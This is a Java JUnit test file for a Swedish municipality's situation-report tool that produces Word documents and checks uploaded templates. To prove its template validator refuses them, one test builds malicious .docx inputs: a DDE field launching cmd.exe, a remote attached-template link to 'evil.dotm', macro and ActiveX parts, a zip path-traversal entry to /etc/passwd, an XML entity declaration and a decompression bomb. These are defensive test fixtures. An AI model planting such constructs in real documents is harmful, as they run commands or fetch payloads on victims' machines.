package se.samsyn.situation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.fail;
import static org.junit.jupiter.api.Assumptions.abort;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.function.BiFunction;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import se.samsyn.kernel.Refusal;
import se.samsyn.shell.PdfPaper;
import se.samsyn.situation.printing.Formalities;
import se.samsyn.situation.printing.Print;
import se.samsyn.situation.word.WordTemplateRules;
import se.samsyn.situation.word.WordWriter;

/** The picture in Word: real styles, the municipality's template, and which templates are let in. */
class WordTest {
    private static Print print;
    private static byte[] own;

    @BeforeAll
    static void write() throws IOException {
        print = new Print(
                PdfPrinterTest.frame(), SamplePicture.picture(PictureKind.TERTIAL, PictureState.LOCKED, SamplePicture.judgement()), SamplePicture.attached(), "Björkhamns kommun", List.of(),
                new Formalities("KS 2026/00317", null));
        own = new WordWriter(new PdfPaper()).write(print, null);
        Files.write(Path.of("target", "lagesbild.docx"), own);
    }

    @Test
    void headingsAreHeadingsTablesHaveHeadsAndTheLanguageIsSwedish() throws IOException {
        try (XWPFDocument word = new XWPFDocument(new ByteArrayInputStream(own))) {
            assertThat(word.getParagraphs().stream().filter(p -> "Heading1".equals(p.getStyle())).map(XWPFParagraph::getText))
                    .startsWith("I korthet", "Det som går åt fel håll").contains("Det vi inte ser");
            assertThat(word.getParagraphs().stream().filter(p -> "Title".equals(p.getStyle()))).hasSize(1);
            assertThat(word.getTables()).hasSizeGreaterThan(2);
            for (XWPFTable table : word.getTables()) {
                assertThat(table.getRow(0).isRepeatHeader()).isTrue();
                assertThat(table.getRow(1).isRepeatHeader()).isFalse();
            }
            assertThat(word.getStyles().getCtStyles().toString()).contains("sv-SE");
            assertThat(word.getProperties().getCoreProperties().getTitle()).isEqualTo(print.picture().title());
            assertThat(word.getAllPictures()).hasSize(1);
            assertThat(word.getDocument().toString()).contains("descr=\"Storgatan och torget sticker ut\"");
            assertThat(word.getParagraphs().stream().map(XWPFParagraph::getText)).noneMatch(text -> text.contains("{{"));
        }
    }

    @Test
    void theMunicipalitysTemplateIsFilledInItsOwnStyles() throws IOException {
        byte[] template = template();
        WordTemplateRules.check(template);
        byte[] made = new WordWriter(new PdfPaper()).write(print, template);
        Files.write(Path.of("target", "lagesbild-mall.docx"), made);
        try (XWPFDocument word = new XWPFDocument(new ByteArrayInputStream(made))) {
            assertThat(word.getHeaderList().getFirst().getText()).contains("Björkhamns kommun").contains("KS 2026/00317");
            List<XWPFParagraph> paragraphs = word.getParagraphs();
            assertThat(paragraphs.getFirst().getText()).isEqualTo("Läget i Björkhamn, höstlovet och veckan efter (låst 10 november 2026 14:12)");
            assertThat(paragraphs.stream().filter(p -> "Rubrik1".equals(p.getStyle())).map(XWPFParagraph::getText)).contains("I korthet");
            assertThat(paragraphs.getLast().getText()).isEqualTo("Med vänlig hälsning");
            assertThat(paragraphs.stream().map(XWPFParagraph::getText)).noneMatch(text -> text.contains("{{"));
        }
    }

    @Test
    void aTemplateThatRunsFetchesOrCarriesSomethingIsRefused() throws IOException {
        byte[] good = template();
        refused("macros", with(good, "word/vbaProject.bin", "x"));
        refused("macros", changed(good, "[Content_Types].xml", (n, s) -> s.replace("wordprocessingml.document.main+xml", "macroEnabled.main+xml")));
        refused("embedded", with(good, "word/embeddings/oleObject1.xlsx", "x"));
        refused("embedded", with(good, "word/activeX/activeX1.xml", "<x/>"));
        refused("fetches", changed(good, "word/_rels/document.xml.rels", (n, s) -> s.replace("</Relationships>",
                "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                        + " Target=\"http://example.org/evil.dotm\" TargetMode=\"External\"/></Relationships>")));
        refused("fetches", changed(good, "word/document.xml", (n, s) -> s.replaceFirst("<w:body>",
                "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
                        + "<w:r><w:instrText>AUTO c:\\\\\\\\cmd.exe</w:instrText></w:r></w:p>")));
        refused("broken", changed(good, "word/document.xml", (n, s) -> s.replaceFirst("<w:document", "<!DOCTYPE a [<!ENTITY b \"c\">]><w:document")));
        refused("broken", with(good, "word/../../etc/passwd", "x"));
        refused("broken", with(good, "word/media/bomb.xml", " ".repeat(70 << 20)));
        refused("kind", with(new byte[0], "xl/workbook.xml", "<x/>"));
        refused("kind", "%PDF-1.7".getBytes(StandardCharsets.US_ASCII));
        refused("large", new byte[WordTemplateRules.LARGEST_BYTES + 1]);
        refused("broken", Arrays.copyOf(good, good.length / 2));
        // A link that a person clicks is no fetching.
        WordTemplateRules.check(changed(good, "word/_rels/document.xml.rels", (n, s) -> s.replace("</Relationships>",
                "<Relationship Id=\"rId98\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\""
                        + " Target=\"https://example.org/\" TargetMode=\"External\"/></Relationships>")));
    }

    /** Opened by LibreOffice and printed: what it shows is what was written. */
    @Test
    void libreOfficeOpensBothAndShowsAllThatIsWritten(@TempDir Path folder) throws Exception {
        Optional<Path> office = Arrays.stream(System.getenv("PATH").split(File.pathSeparator))
                .map(part -> Path.of(part, "soffice"))
                .filter(Files::isExecutable)
                .findFirst();
        if (office.isEmpty()) {
            String why = "There is no LibreOffice on the path; make office installs it";
            if ("required".equals(System.getProperty("samsyn.office"))) {
                fail(why);
            }
            abort(why);
        }
        Files.write(folder.resolve("egen.docx"), own);
        Files.write(folder.resolve("mall.docx"), new WordWriter(new PdfPaper()).write(print, template()));
        Process process = new ProcessBuilder(
                        office.get().toString(), "-env:UserInstallation=" + folder.resolve("profile").toUri(), "--headless", "--convert-to", "pdf",
                        "--outdir", folder.toString(), folder.resolve("egen.docx").toString(), folder.resolve("mall.docx").toString())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("log").toFile())
                .start();
        assertThat(process.waitFor(120, TimeUnit.SECONDS)).as("LibreOffice within two minutes").isTrue();
        for (String name : List.of("egen", "mall")) {
            Path pdf = folder.resolve(name + ".pdf");
            assertThat(pdf).as(Files.readString(folder.resolve("log"))).exists();
            Files.copy(pdf, Path.of("target", "word-" + name + ".pdf"), java.nio.file.StandardCopyOption.REPLACE_EXISTING);
            try (PDDocument document = Loader.loadPDF(pdf.toFile())) {
                String text = new PDFTextStripper().getText(document);
                assertThat(text).as(name).contains("Byt armaturerna").contains("I korthet").contains("Problemen och det som vägdes").contains("412*")
                        .contains("Låst av Prov Samordnare").contains("KS 2026/00317");
                assertThat(document.getNumberOfPages()).as(name).isBetween(2, 5);
            }
        }
    }

    /** As a Swedish Word names its styles: the name is Word's own, the number is the language's. */
    private static byte[] template() throws IOException {
        try (XWPFDocument word = new XWPFDocument(new ByteArrayInputStream(own))) {
            while (!word.getBodyElements().isEmpty()) {
                word.removeBodyElement(0);
            }
            word.createHeader(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT).createParagraph().createRun().setText("{{kommun}} · dnr {{dnr}}");
            XWPFParagraph title = word.createParagraph();
            title.createRun().setText("{{rub");
            title.createRun().setText("rik}} ({{status}})");
            word.createParagraph().createRun().setText("{{innehall}}");
            word.createParagraph().createRun().setText("Med vänlig hälsning");
            ByteArrayOutputStream output = new ByteArrayOutputStream();
            word.write(output);
            return changed(output.toByteArray(), "word/styles.xml", (name, xml) -> xml.replace("\"Heading1\"", "\"Rubrik1\"")
                    .replace("\"Heading2\"", "\"Rubrik2\"").replace("\"TableGrid\"", "\"Tabellrutnt\"").replace("12506B", "7A1F3D"));
        }
    }

    private static void refused(String why, byte[] file) {
        assertThatThrownBy(() -> WordTemplateRules.check(file)).as(why)
                .isInstanceOfSatisfying(Refusal.class, refusal -> assertThat(refusal.code()).isEqualTo("situation.template." + why));
    }

    private static byte[] with(byte[] docx, String part, String text) throws IOException {
        return zip(docx, (name, xml) -> xml, part, text);
    }

    private static byte[] changed(byte[] docx, String part, BiFunction<String, String, String> change) throws IOException {
        return zip(docx, (name, xml) -> name.equals(part) ? change.apply(name, xml) : xml, null, null);
    }

    private static byte[] zip(byte[] docx, BiFunction<String, String, String> change, String part, String text) throws IOException {
        ByteArrayOutputStream output = new ByteArrayOutputStream();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(docx)); ZipOutputStream out = new ZipOutputStream(output)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] bytes = in.readAllBytes();
                out.putNextEntry(new ZipEntry(entry.getName()));
                boolean xml = entry.getName().endsWith(".xml") || entry.getName().endsWith(".rels");
                out.write(xml ? change.apply(entry.getName(), new String(bytes, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8) : bytes);
            }
            if (part != null) {
                out.putNextEntry(new ZipEntry(part));
                out.write(text.getBytes(StandardCharsets.UTF_8));
            }
        }
        return output.toByteArray();
    }
}
